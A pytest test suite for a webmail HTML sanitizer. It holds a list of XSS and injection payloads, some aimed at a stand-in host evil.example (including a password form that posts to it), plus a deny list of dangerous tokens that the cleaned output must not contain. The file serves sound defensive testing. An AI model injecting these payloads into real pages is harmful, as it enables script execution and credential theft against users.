from __future__ import annotations

import time

import pytest

from webmail.parsing.sanitize import SANITIZER_VERSION, html_to_text, sanitize_html

XSS_VECTORS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href=" JaVaScRiPt:alert(1)">x</a>',
    "<svg onload=alert(1)><circle r=1 /></svg>",
    "<svg><script>alert(1)</script></svg>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<div style="width: expression(alert(1))">x</div>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="background-image:url(http://evil.example/t.png)">x</div>',
    "<style>@import url(http://evil.example/x.css); p{color:red}</style>",
    "<style>body{background:url(http://evil.example/t.png)}</style>",
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</div>',
    "<style>.o{position:absolute;top:0}</style>",
    '<div style="behavior:url(x.htc);-moz-binding:url(x.xml#x)">x</div>',
    '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    '<base href="http://evil.example/">',
    '<form action="http://evil.example/"><input name=p type=password></form>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="http://evil.example/"></iframe>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">x</math>',
    '<object data="http://evil.example/x.swf"></object><embed src="x.swf">',
    '<link rel="stylesheet" href="http://evil.example/x.css">',
    '<body onload="alert(1)">x</body>',
    "<style></style><img src=x onerror=alert(1)>",
    '<p style="color:red" onclick="alert(1)">x</p>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<a href="vbscript:msgbox(1)">x</a>',
    "<!--<img src=x onerror=alert(1)>-->",
    "<style>p{color:red}</style ><script>alert(1)</script>",
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<div style="background:url(&#106;avascript:alert(1))">x</div>',
    "<style>p{background:u\\rl(http://evil.example/x)}</style>",
    '<img src="//evil.example/t.png">',
]
FORBIDDEN = [
    "<script", "onerror", "onload", "onclick", "javascript:", "vbscript:", "expression(",
    "@import", "<svg", "<math", "<iframe", "<form", "<input", "<meta", "<base", "<link",
    "<object", "<embed", "data:", "position:fixed", "position:absolute", "evil.example",
    "behavior", "binding",
]  # fmt: skip


@pytest.mark.parametrize("vector", XSS_VECTORS)
def test_no_xss_vector_survives(vector: str) -> None:
    for allow_remote in (False, True):
        cleaned = sanitize_html(
            vector, allow_remote=allow_remote, proxy_url=lambda url: "https://proxy.test/p"
        ).html.lower()
        for needle in FORBIDDEN:
            assert needle not in cleaned.replace(" ", ""), (vector, cleaned)


NEWSLETTER = """
<html><head><style>
  .wrap { width: 600px; margin: 0 auto; font-family: Arial, sans-serif; }
  @media (max-width: 620px) { .wrap { width: 100% !important; } }
</style></head>
<body bgcolor="#eeeeee">
<table class="wrap" width="600" cellpadding="10" cellspacing="0" border="0" align="center"
       style="background-color:#ffffff;border:1px solid #dddddd">
  <tr><td style="font-size:18px;color:#333333;padding:20px;text-align:center">
    <font face="Georgia" color="#990000" size="4"><b>Weekly news</b></font></td></tr>
  <tr><td valign="top" style="line-height:1.5;color:rgb(40, 40, 40)">
    <p>Hello <a href="https://example.com/read?id=1">reader</a>,</p>
    <img src="cid:logo@example" alt="Logo" width="120" height="40">
    <ul><li>One</li><li>Two</li></ul>
  </td></tr>
</table></body></html>
"""


def test_newsletter_layout_survives() -> None:
    cleaned = sanitize_html(NEWSLETTER).html
    for kept in (
        'width="600"', 'cellpadding="10"', "background-color:#ffffff", "border:1px solid #dddddd",
        "font-size:18px", "text-align:center", 'face="Georgia"', 'color="#990000"',
        "rgb(40, 40, 40)", ".wrap{", "@media", 'src="cid:logo@example"', "<ul>", "<b>",
    ):  # fmt: skip
        assert kept in cleaned, kept


def test_links_open_in_a_new_tab_without_an_opener() -> None:
    cleaned = sanitize_html('<a href="https://example.com/">x</a>').html
    assert 'target="_blank"' in cleaned
    assert 'rel="noopener noreferrer"' in cleaned


def test_remote_images_are_removed_and_reported_unless_allowed() -> None:
    html = '<img src="https://tracker.example/pixel.gif" alt="p">'
    blocked = sanitize_html(html)
    assert blocked.has_remote_content
    assert "tracker.example" not in blocked.html
    allowed = sanitize_html(
        html, allow_remote=True, proxy_url=lambda url: f"/proxy/?url={url.replace(':', '%3A')}"
    )
    assert 'src="/proxy/?url=https%3A//tracker.example/pixel.gif"' in allowed.html


def test_allowing_remote_content_without_a_proxy_still_loads_nothing() -> None:
    cleaned = sanitize_html('<img src="https://tracker.example/p.gif">', allow_remote=True)
    assert "tracker.example" not in cleaned.html


def test_css_urls_go_through_the_proxy_when_allowed() -> None:
    cell = '<td style="background:url(https://img.example/bg.png) no-repeat">x</td>'
    html = f"<table><tr>{cell}</tr></table>"
    cleaned = sanitize_html(html, allow_remote=True, proxy_url=lambda url: "/proxy/1").html
    assert 'style="background:url(&quot;/proxy/1&quot;) no-repeat"' in cleaned
    assert "img.example" not in cleaned


def test_cid_sources_are_mapped_to_part_urls() -> None:
    cleaned = sanitize_html('<img src="cid:logo@x">', cid_url=lambda cid: f"/m/1/cid/{cid}").html
    assert 'src="/m/1/cid/logo@x"' in cleaned


def test_relative_links_are_dropped() -> None:
    assert "href" not in sanitize_html('<a href="/admin/">x</a>').html


def test_a_100_kb_newsletter_is_sanitized_quickly() -> None:
    block = NEWSLETTER.split("<body", 1)[1].split(">", 1)[1].split("</body>")[0]
    html = "<style>.a{color:red}</style>" + block * (100_000 // len(block) + 1)
    assert len(html) >= 100_000
    started = time.perf_counter()
    sanitize_html(html)
    elapsed = time.perf_counter() - started
    print(f"sanitize_html on {len(html)} chars: {elapsed * 1000:.1f} ms")
    assert elapsed < 1.0


def test_sanitizer_version_is_an_int_for_cache_keys() -> None:
    assert isinstance(SANITIZER_VERSION, int)


def test_html_to_text_skips_script_and_style_and_keeps_blocks() -> None:
    text = html_to_text(
        "<style>p{}</style><script>x()</script><p>Hello&nbsp;<b>you</b></p><p>Line&amp;two</p>"
        "<ul><li>a</li></ul>"
    )
    assert text == "Hello you\n\nLine&two\n\n- a"
